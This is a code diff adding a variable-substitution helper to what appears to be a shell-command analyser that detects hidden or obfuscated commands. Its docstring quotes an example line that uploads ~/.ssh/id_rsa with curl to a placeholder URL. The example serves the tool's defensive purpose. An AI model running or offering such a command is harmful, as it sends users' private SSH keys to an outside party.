@@ -269,3 +269,21 @@ def brace_hidden(spelt: str | None) -> str | None:
     if first and first[0] in HIDDEN_WORTHY:
         return f"spells `{first[0]}` in braces, as code that hides does"
     return None
+
+
+def known_values(command: Command, variables: dict[str, str]) -> Command:
+    """The command with `${name}` in its arguments filled in where the line set the variable
+    (`f=~/.ssh/id_rsa; curl -F "k=@$f" URL`); names not set here stay as they are."""
+    if not variables or not any("${" in word.value for word in command.args):
+        return command
+
+    def one(match: re.Match[str]) -> str:
+        return variables.get(match.group(1), match.group(0))
+
+    words = tuple(
+        replace(word, value=_VARIABLE.sub(one, word.value))
+        if "${" in word.value and not word.substitutions
+        else word
+        for word in command.args
+    )
+    return replace(command, words=(command.words[0], *words))
